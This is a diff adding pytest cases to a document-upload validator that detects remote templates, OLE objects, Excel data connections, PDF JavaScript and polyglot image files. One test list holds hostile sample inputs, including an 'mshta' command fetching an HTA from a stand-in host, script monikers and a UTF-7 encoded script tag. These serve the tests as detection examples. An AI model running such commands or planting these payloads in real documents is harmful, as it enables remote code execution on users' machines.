@@ -5,8 +5,9 @@ from pathlib import Path
 
 import pytest
 
+from tests.hostile.pdfs import pdf
 from tests.unit.validator import samples
-from tests.unit.validator.test_dangerous_content import OTHER_OBJECT, PACKAGE_OBJECT, judged, word
+from tests.unit.validator.test_dangerous_content import OTHER_OBJECT, PACKAGE_OBJECT, judged, relation, sheet, word
 
 ADDRESS = b"http://a.example/x.dotm"
 URL_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
@@ -71,3 +72,72 @@ def test_an_object_that_is_fetched_from_an_address_is_found_in_every_container(t
     assert "remote-code" in judged(tmp_path, "docx", word("word/embeddings/oleObject1.bin", LINK))
     body = struct.pack("<HHI", 0, 0x1011, len(LINK)) + LINK
     assert "remote-code" in judged(tmp_path, "ppt", samples.powerpoint(body=body))
+
+
+def doc_with_template(template: str) -> bytes:
+    """[MS-DOC] 2.9.277: the associated strings lie in the table stream, the template is the second."""
+    strings = struct.pack("<HHHHH", 0xFFFF, 18, 0, 0, len(template)) + template.encode("utf-16-le") + bytes(32)
+    head = struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0x0409, 0, 0x0200).ljust(0x019A, b"\0")
+    head += struct.pack("<II", 16, len(strings))
+    return samples.ole({"WordDocument": head.ljust(2048, b"\0"), "1Table": bytes(16) + strings})
+
+
+def slides_that(action: int) -> bytes:
+    """[MS-PPT] 2.6.10: what a click does."""
+    atom = struct.pack("<HHIIIB7x", 0, 0x0FF3, 16, 0, 1, action)
+    return samples.powerpoint(body=struct.pack("<HHI", 0xF, 0x0FF2, len(atom)) + atom)
+
+
+@pytest.mark.parametrize(
+    ("extension", "data", "codes"),
+    [
+        ("doc", doc_with_template("http://a.example/x.dotm"), {"remote-code"}),
+        ("doc", doc_with_template("C:\\Templates\\Normal.dotm"), set()),
+        ("ppt", slides_that(2), {"remote-code"}),
+        ("ppt", slides_that(4), set()),
+        ("docx", word("word/_rels/document.xml.rels", relation("aFChunk", "a.mht", "Internal")), {"ole-package"}),
+        ("docx", word("word/_rels/document.xml.rels", relation("aFChunk", "http://a.example/a")), {"remote-code"}),
+        ("docx", word("word/_rels/document.xml.rels", relation("control", "a.xml", "Internal")), {"embedded-object"}),
+        (
+            "xlsx",
+            sheet("xl/connections.xml", b'<c><connection><webPr url="x"/></connection></c>'),
+            {"remote-reference"},
+        ),
+        ("xlsx", sheet("xl/connections.xml", b"<c><connection><dbPr/></connection></c>"), {"remote-reference"}),
+        ("pdf", pdf({4: b"<</Type/3D/Subtype/U3D/OnInstantiate 3 0 R>>"}), {"pdf-javascript"}),
+    ],
+)
+def test_what_a_document_fetches_or_starts_is_found(
+    extension: str, data: bytes, codes: set[str], tmp_path: Path
+) -> None:
+    assert judged(tmp_path, extension, data) == codes
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<details open ontoggle=a()>",
+        "<script/src=//a.example>",
+        '<meta http-equiv="refresh" content="0;url=//a.example">',
+        "mshta http://a.example/x.hta",
+        'GetObject("script:http://a.example/x")',
+        "+ADw-script+AD4-",
+    ],
+)
+def test_less_common_ways_of_a_text_to_act_are_found(text: str, tmp_path: Path) -> None:
+    assert "markup-in-text" in judged(tmp_path, "txt", b"Some words.\n" + text.encode() + b"\nMore words.\n")
+
+
+def test_words_of_a_text_that_only_look_like_an_event_are_nothing(tmp_path: Path) -> None:
+    assert not judged(tmp_path, "txt", b"If x <y and online = 3, then we went on end = 4. The onset = 2.\n")
+
+
+def test_a_picture_that_a_reader_of_pdf_opens_is_refused(tmp_path: Path) -> None:
+    picture = samples.content("jpg")
+    comment = pdf()[:500]
+    both = picture[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + picture[2:]
+    assert "foreign-data" in judged(tmp_path, "jpg", both)
+
+
+def test_an_application_of_markup_behind_a_picture_is_refused(tmp_path: Path) -> None:
+    assert "foreign-data" in judged(tmp_path, "png", samples.content("png") + b"<HTA:APPLICATION id=a>")
